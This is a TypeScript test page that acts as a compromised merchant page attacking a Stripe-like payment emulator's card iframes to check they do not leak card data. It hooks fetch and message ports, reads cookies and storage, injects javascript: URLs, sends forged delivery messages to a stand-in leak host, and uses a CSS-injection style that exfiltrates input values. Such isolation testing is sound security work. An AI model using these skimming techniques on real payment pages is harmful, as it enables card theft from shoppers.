import type { Stripe } from "@stripe/stripe-js";
import { PUBLISHABLE_KEY } from "../../keys.ts";

/** A compromised page on the host's origin that tries to steal the card and writes everything it captures to a <pre>.
 *  With ?through=stripe, Stripe.js mounts the Elements and the page intercepts all events and messages. With
 *  ?through=frames, the page mounts the frames itself, in place of Stripe.js. */

const query = new URLSearchParams(location.search);
const clientSecret = query.get("client_secret") ?? "";
const elements = (query.get("elements") ?? "").split(",");
const seen: unknown[] = [location.href, document.referrer];

function note(what: string, value: unknown): void {
	seen.push([what, value]);
}

/** Records an expression's result or error. */
async function attempt(what: string, act: () => unknown): Promise<void> {
	try {
		const value = await act();
		note(what, typeof value === "object" ? JSON.parse(JSON.stringify(value) ?? "null") : String(value));
	} catch (error) {
		note(what, String(error));
	}
}

function listen(): void {
	window.addEventListener("message", ({ data }) => note("message", data), true);
	window.addEventListener("error", ({ message }) => note("error", message));
	const names = ["input", "change", "keydown", "keyup", "keypress", "beforeinput", "paste", "focusin", "focusout"];
	for (const name of names) {
		document.addEventListener(
			name,
			(event) => note(name, event instanceof KeyboardEvent ? event.key : event.target),
			true,
		);
	}
	const onmessage = Object.getOwnPropertyDescriptor(MessagePort.prototype, "onmessage");
	Object.defineProperty(MessagePort.prototype, "onmessage", {
		set(handler: (event: MessageEvent) => void) {
			onmessage?.set?.call(this, (event: MessageEvent) => {
				note("port", event.data);
				handler(event);
			});
		},
	});
	const { fetch } = window;
	window.fetch = async (...request) => {
		note("fetch", request);
		const response = await fetch(...request);
		note("fetched", await response.clone().text());
		return response;
	};
}

function look(): void {
	for (const [index, iframe] of [...document.querySelectorAll("iframe")].entries()) {
		const inside = iframe.contentWindow;
		void attempt("iframe", () => iframe.outerHTML);
		void attempt("contentDocument", () => iframe.contentDocument?.documentElement.outerHTML);
		for (const name of ["document", "name", "origin", "history", "localStorage", "performance", "navigator"]) {
			void attempt(`contentWindow.${name}`, () => inside && Reflect.get(inside, name));
		}
		void attempt("values", () => [...(inside?.document.querySelectorAll("input") ?? [])].map(({ value }) => value));
		void attempt("location", () => inside?.location.href);
		void attempt("length", () => inside?.length);
		void attempt("frames", () => window.frames[index]?.document.body.innerHTML);
		void attempt("keys", () => inside && Reflect.ownKeys(inside).map(String));
		void attempt("javascript:", () => {
			if (inside) inside.location.href = "javascript:parent.postMessage(document.body.innerHTML, '*')";
		});
		void attempt(
			"open",
			() => window.open("javascript:opener.postMessage(document.body.innerHTML,'*')", iframe.name)?.name,
		);
	}
	void attempt("page", () => document.documentElement.outerHTML);
	void attempt("selection", () => String(getSelection()));
	void attempt("window.name", () => window.name);
	void attempt("cookie", () => document.cookie);
	void attempt("storage", () => [{ ...localStorage }, { ...sessionStorage }]);
	void attempt("history", () => history.state);
	void attempt("resources", () => performance.getEntriesByType("resource").map(({ name }) => name));
}

async function loadStripe(): Promise<Stripe> {
	const script = document.createElement("script");
	script.src = "/stripe-emulator/stripe.js";
	await new Promise((resolve) => {
		script.onload = resolve;
		document.head.appendChild(script);
	});
	if (!window.Stripe) throw new Error("There is no Stripe.js at /stripe-emulator/stripe.js.");
	return window.Stripe(PUBLISHABLE_KEY);
}

/** Calls every function of Stripe.js and listens to every event. */
async function throughStripe(): Promise<() => Promise<void>> {
	const stripe = await loadStripe();
	const group = stripe.elements();
	for (const type of elements) {
		const element: unknown = Reflect.apply(group.create, group, [type]);
		if (typeof element !== "object" || element === null) continue;
		const call = (method: string, ...args: unknown[]) => Reflect.get(element, method).apply(element, args);
		for (const event of ["ready", "change", "focus", "blur", "escape", "networkschange", "loaderror"]) {
			call("on", event, (detail: unknown) => note(event, detail));
		}
		const box = document.body.appendChild(document.createElement("div"));
		call("mount", box);
	}
	return async () => {
		const card = group.getElement("cardNumber") ?? group.getElement("card");
		if (!card) return;
		await attempt("element", () => ({ ...card }));
		await attempt("submit", () => group.submit());
		await attempt("createToken", () => stripe.createToken(card));
		await attempt("createPaymentMethod", () => stripe.createPaymentMethod({ type: "card", card }));
		await attempt("confirm", () => stripe.confirmCardPayment(clientSecret, { payment_method: { card } }));
		await attempt("retrieve", () => stripe.retrievePaymentIntent(clientSecret));
	};
}

const key = PUBLISHABLE_KEY;
const confirming = { key, client_secret: clientSecret, "payment_method_data[type]": "card" };

/** Delivery messages that try to make a frame send its card elsewhere. */
const deliveries = [
	{ to: "payment_methods", form: { key, type: "card" } },
	{ to: "tokens", form: { key } },
	{ to: "confirm", form: confirming },
	{ to: "confirm", form: { ...confirming, receipt_email: "payment_method_data[card][number]" } },
	{ to: "confirm", form: { ...confirming, client_secret: `${clientSecret}/../../leak` } },
	{ to: "payment_methods", form: { key, type: "card", "billing_details[name]": "card[number]" } },
	{ to: "payment_methods", form: { key, type: "card", "card[number][echo]": "1", "card[token]": "tok_1" } },
	{ to: "payment_methods", form: { key: "sk_test_mine" } },
	{ to: "payment_methods", form: {} },
	...["card_parts", "../../leak", "https://shop.example/leak", "__proto__"].map((to) => ({ to, form: { key } })),
];

/** Messages that a frame must not respond to with card data. */
const oddities = [
	...["card", "form", "value", "fields", "read", "leave", "toString", "constructor", "options"].map((say) => ({ say })),
	...["card", {}, { say: "part", key: "sk_test_mine" }, { say: "brand", brand: "amex" }, { say: "focus" }],
	...[leakingStyle(), { say: "check" }, { say: "blur" }],
];

function leakingStyle() {
	const leak = {
		backgroundColor: "url(/leak)",
		fontFamily: "x; } input[value^='3'] { background: url(/leak)",
		color: "url(/leak)",
	};
	return { say: "options", options: { style: { base: { ...leak, ":-webkit-autofill": leak }, complete: leak } } };
}

/** Mounts the frames and connects their message ports to this page instead of Stripe.js. */
async function throughFrames(): Promise<() => Promise<void>> {
	const ports = new Map<string, MessagePort>();
	for (const type of elements) {
		const iframe = document.body.appendChild(document.createElement("iframe"));
		iframe.title = type;
		iframe.src = `/stripe-emulator/card-frame?element=${type}`;
		window.addEventListener("message", ({ data, source }) => {
			if (data !== "stripe-emulator-hello" || source !== iframe.contentWindow) return;
			const { port1, port2 } = new MessageChannel();
			port1.onmessage = () => {};
			ports.set(type, port1);
			iframe.contentWindow?.postMessage(null, "*", [port2]);
			// a second port, for eavesdropping
			const second = new MessageChannel();
			second.port1.onmessage = ({ data }) => note("second line", data);
			iframe.contentWindow?.postMessage(null, "*", [second.port2]);
		});
	}
	// most messages get no response; this also records late responses
	const ask = (type: string, message: unknown, timeout = 100) =>
		new Promise<string>((resolve) => {
			const { port1, port2 } = new MessageChannel();
			port1.onmessage = ({ data }) => resolve(String(data?.done));
			setTimeout(() => resolve(""), timeout);
			ports.get(type)?.postMessage(message, [port2]);
		});
	return async () => {
		for (const { to, form } of deliveries) {
			for (const split of [true, false]) {
				const timeout = ["payment_methods", "tokens", "confirm"].includes(to) ? 500 : 100;
				const partOf = (type: string) => (ports.has(type) ? ask(type, { say: "part", key }, timeout) : "");
				const [expiry, cvc] = [await partOf("cardExpiry"), await partOf("cardCvc")];
				const delivery = { to, form, parts: split ? { expiry, cvc } : null };
				await Promise.all(elements.map((type) => ask(type, { say: "deliver", delivery }, timeout)));
			}
		}
		for (const message of oddities) await Promise.all(elements.map((type) => ask(type, message)));
	};
}

listen();
const attack = query.get("through") === "stripe" ? throughStripe() : throughFrames();
const button = document.body.appendChild(document.createElement("button"));
button.textContent = "Attack";
button.onclick = async () => {
	await (await attack)();
	look();
	// wait for the responses to the last attempts
	await new Promise((resolve) => setTimeout(resolve, 300));
	document.body.appendChild(document.createElement("pre")).textContent = JSON.stringify(seen);
};
